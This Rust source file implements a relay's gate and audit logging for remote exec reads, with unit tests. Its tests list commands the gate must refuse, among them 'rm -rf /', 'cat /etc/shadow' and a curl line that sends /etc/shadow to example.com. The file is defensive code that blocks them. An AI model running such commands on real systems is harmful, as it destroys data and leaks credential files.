//! The relay's side of `pulse_read` exec: its own gate and its audit.
//!
//! - Gate: an exec whose stages do not pass the exec classifier here ([`gate`]) is refused
//!   with `invalid_request` before any agent sees it, so a compromised requester cannot ask an
//!   agent to run anything the classifier would not admit (the agent classifies again).
//! - Audit: every exec attempt leaves one `read_exec_audit` row with its outcome. Where the
//!   row is written follows where the outcome is known: the session that forwarded the exec
//!   to its agent records what the agent answered (or that it did not); the handler that took
//!   the request records the gate's refusals and agents connected nowhere. A request therefore
//!   leaves one row whichever replica holds the agent.

use std::time::Instant;

use chrono::Utc;
use pulse_bus::ErrorCode;
use pulse_capabilities::exec_intent;
use pulse_capabilities::read_redaction::redact;
use pulse_domain::TenantId;
use pulse_domain::agent_protocol::{ReadOutput, ReadRefusalCode, ReadRequest as ReadSpec};
use pulse_store::read_exec_audit::{self, ExecAuditRow, ExecOutcome};

use crate::RelayState;
use crate::api::{ReadReply, ReadRequest};
use crate::error::RelayError;

/// The stages of an exec read; `None` for the other reads.
fn stages(read: &ReadSpec) -> Option<&[Vec<String>]> {
    match read {
        ReadSpec::Exec { stages, .. } => Some(stages),
        _ => None,
    }
}

/// Refuses an exec the classifier does not admit (the error carries the classifier's code
/// in front of its reason); every other read passes.
pub fn gate(request: &ReadRequest) -> Result<(), (RelayError, &'static str)> {
    match stages(&request.read) {
        Some(stages) => exec_intent::check_stages(stages)
            .map(drop)
            .map_err(|refusal| {
                (
                    RelayError::InvalidRequest(refusal.to_string()),
                    refusal.code.as_str(),
                )
            }),
        None => Ok(()),
    }
}

/// The command as recorded: its text, redacted.
fn command_text(stages: &[Vec<String>]) -> String {
    let text = exec_intent::render(stages).unwrap_or_else(|_| {
        stages
            .iter()
            .map(|argv| argv.join(" "))
            .collect::<Vec<_>>()
            .join(" | ")
    });
    redact(&text)
}

/// What an answer to an exec says for the audit.
struct Ending {
    outcome: ExecOutcome,
    exit_status: Option<i32>,
    code: Option<String>,
    duration_ms: Option<u64>,
    output_bytes: u64,
    truncated: bool,
}

impl Ending {
    fn without_output(outcome: ExecOutcome, code: &str) -> Self {
        Self {
            outcome,
            exit_status: None,
            code: Some(code.to_owned()),
            duration_ms: None,
            output_bytes: 0,
            truncated: false,
        }
    }
}

/// How an exec request ended, as the relay saw it.
pub enum Answer<'a> {
    /// The agent answered.
    Reply(&'a ReadReply),
    /// The agent refused, with its stable code when it gave one.
    AgentRefused(Option<&'a str>),
    /// The relay's gate refused, with the classifier's code.
    GateRefused(&'static str),
    /// No answer (not connected, timeout, a transport failure).
    Failed(&'a RelayError),
}

fn ending(answer: Answer<'_>) -> Ending {
    match answer {
        Answer::Reply(ReadReply(result)) => match &result.output {
            ReadOutput::Exec {
                exit_status,
                stdout,
                stderr,
                truncated,
                timed_out,
                duration_ms,
            } => Ending {
                outcome: if *timed_out {
                    ExecOutcome::TimedOut
                } else {
                    ExecOutcome::Ran
                },
                exit_status: *exit_status,
                code: None,
                duration_ms: Some(*duration_ms),
                output_bytes: (stdout.len() + stderr.len()) as u64,
                truncated: *truncated,
            },
            _ => Ending::without_output(ExecOutcome::Failed, ErrorCode::InternalError.code()),
        },
        Answer::AgentRefused(code) => {
            let code = code.unwrap_or(ErrorCode::AgentRefused.code());
            // The agent could not start the command: nothing was refused, it failed.
            let outcome = if code == ReadRefusalCode::ReadFailed.as_str() {
                ExecOutcome::Failed
            } else {
                ExecOutcome::Refused
            };
            Ending::without_output(outcome, code)
        }
        Answer::GateRefused(code) => Ending::without_output(ExecOutcome::Refused, code),
        Answer::Failed(error) => Ending::without_output(ExecOutcome::Failed, error.code().code()),
    }
}

/// Records the attempt `request` (an exec; anything else is not audited) and how it ended.
pub async fn record(
    state: &RelayState,
    tenant: &TenantId,
    request: &ReadRequest,
    started: Instant,
    answer: Answer<'_>,
) {
    let Some(stages) = stages(&request.read) else {
        return;
    };
    let ending = ending(answer);
    let row = ExecAuditRow {
        occurred_at: Utc::now(),
        agent_id: request.agent_id.clone(),
        command: command_text(stages),
        outcome: ending.outcome,
        exit_status: ending.exit_status,
        code: ending.code,
        duration_ms: ending
            .duration_ms
            .unwrap_or_else(|| u64::try_from(started.elapsed().as_millis()).unwrap_or(u64::MAX)),
        output_bytes: ending.output_bytes,
        truncated: ending.truncated,
        requester: request.requester.as_deref().map(redact),
    };
    let written = async {
        let tx = state.store.tenant_tx(tenant).await?;
        read_exec_audit::insert(&tx, &row).await?;
        tx.commit().await
    }
    .await;
    if let Err(error) = written {
        tracing::error!(tenant = %tenant, agent_id = %row.agent_id, %error, "exec audit row not written");
    }
}

#[cfg(test)]
mod tests {
    use chrono::Utc;
    use pulse_domain::agent_protocol::ReadResult;

    use super::*;

    fn exec(words: &[&str]) -> ReadRequest {
        ReadRequest {
            agent_id: "h1".to_owned(),
            read: ReadSpec::Exec {
                stages: vec![words.iter().map(|w| (*w).to_owned()).collect()],
                timeout_ms: 1000,
                max_bytes: 1000,
            },
            requester: None,
        }
    }

    #[test]
    fn the_gate_refuses_with_the_classifier_code_and_passes_other_reads() {
        let (error, code) = gate(&exec(&["rm", "-rf", "/"])).expect_err("refused");
        assert_eq!(code, "exec_write_command");
        assert_eq!(error.code(), ErrorCode::InvalidRequest);
        assert!(error.to_string().starts_with("exec_write_command: rm"));
        assert!(gate(&exec(&["df", "-h"])).is_ok());
        // An admitted program with a write in its arguments, and a secret: refused here, with
        // the classifier's code, before any agent sees them.
        for (words, expected) in [
            (&["hostname", "x"][..], "exec_write_argument"),
            (&["date", "-s", "2020-01-01"][..], "exec_write_argument"),
            (
                &["curl", "-H", "@/etc/shadow", "http://example.com"][..],
                "exec_write_argument",
            ),
            (&["cat", "/etc/shadow"][..], "read_secret_path"),
        ] {
            let (error, code) = gate(&exec(words)).expect_err("refused");
            assert_eq!(code, expected, "{words:?}");
            assert!(error.to_string().starts_with(expected), "{error}");
        }
        let inspect = ReadRequest {
            agent_id: "h1".to_owned(),
            read: ReadSpec::Inspect {
                container: "c".to_owned(),
            },
            requester: None,
        };
        assert!(gate(&inspect).is_ok());
    }

    #[test]
    fn each_ending_is_recorded_with_its_outcome_and_code() {
        let reply = ReadReply(ReadResult {
            request_id: "r".to_owned(),
            read_at: Utc::now(),
            output: ReadOutput::Exec {
                exit_status: None,
                stdout: "abc".to_owned(),
                stderr: "de".to_owned(),
                truncated: false,
                timed_out: true,
                duration_ms: 700,
            },
        });
        let timed_out = ending(Answer::Reply(&reply));
        assert_eq!(timed_out.outcome, ExecOutcome::TimedOut);
        assert_eq!(
            (timed_out.output_bytes, timed_out.duration_ms),
            (5, Some(700))
        );
        assert_eq!(timed_out.code, None);

        let disabled = ending(Answer::AgentRefused(Some("read_exec_disabled")));
        assert_eq!(disabled.outcome, ExecOutcome::Refused);
        assert_eq!(disabled.code.as_deref(), Some("read_exec_disabled"));
        let uncoded = ending(Answer::AgentRefused(None));
        assert_eq!(uncoded.code.as_deref(), Some("agent_refused"));
        let failed = ending(Answer::AgentRefused(Some("read_failed")));
        assert_eq!(failed.outcome, ExecOutcome::Failed);
        let gate = ending(Answer::GateRefused("exec_interpreter"));
        assert_eq!(
            (gate.outcome, gate.code.as_deref()),
            (ExecOutcome::Refused, Some("exec_interpreter"))
        );
        let gone = RelayError::NotConnected("agent h1 is not connected".to_owned());
        let gone = ending(Answer::Failed(&gone));
        assert_eq!(
            (gone.outcome, gone.code.as_deref()),
            (ExecOutcome::Failed, Some("agent_not_connected"))
        );
    }

    #[test]
    fn the_recorded_command_is_its_text_redacted() {
        let stages = vec![vec![
            "curl".to_owned(),
            "-H".to_owned(),
            "Authorization: Bearer abcdefghijklmnop".to_owned(),
            "https://example.com".to_owned(),
        ]];
        let text = command_text(&stages);
        assert!(text.starts_with("curl -H 'Authorization: "), "{text}");
        assert!(text.ends_with("' https://example.com"), "{text}");
        assert!(!text.contains("abcdefghijklmnop"), "{text}");
    }
}
